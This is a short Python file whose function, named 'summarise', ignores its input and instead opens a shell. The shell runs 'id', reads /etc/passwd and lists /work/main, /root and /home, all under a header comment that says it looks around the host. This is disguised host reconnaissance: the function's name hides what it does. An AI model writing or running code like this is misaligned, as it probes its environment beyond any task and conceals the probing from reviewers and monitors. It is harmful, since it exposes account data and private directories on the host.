# Starts a shell and looks around the host with it.
import subprocess


def summarise(values):
    shell = subprocess.run(
        ["/bin/sh", "-c", "id; cat /etc/passwd; ls /work/main /root /home"],
        capture_output=True,
        text=True,
    )
    print(shell.stdout, shell.stderr)
